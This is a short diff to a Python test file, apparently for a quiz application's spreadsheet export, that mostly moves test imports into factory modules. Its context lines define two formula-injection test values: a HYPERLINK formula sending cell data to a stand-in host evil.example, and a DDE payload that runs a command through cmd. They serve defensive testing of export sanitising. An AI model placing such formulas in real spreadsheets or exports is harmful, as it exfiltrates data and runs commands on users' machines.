@@ -24,9 +24,10 @@ from app.quizzes.services import attempts, banks, statistics
 from app.reports import exports
 from app.reports.services import build_unit_report
 from app.spreadsheets import InertCsvWriter
-from tests.factories import make_user
-from tests.quizzes.conftest import T0, make_bank, make_quiz, single
-from tests.reports.conftest import ON, YEAR, year_of_study  # noqa: F401 (a fixture)
+from tests.factories.auth import make_user
+from tests.factories.quizzes import T0, make_bank, make_quiz, single
+from tests.factories.reports import ON, YEAR
+from tests.reports.conftest import year_of_study  # noqa: F401 (a fixture)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
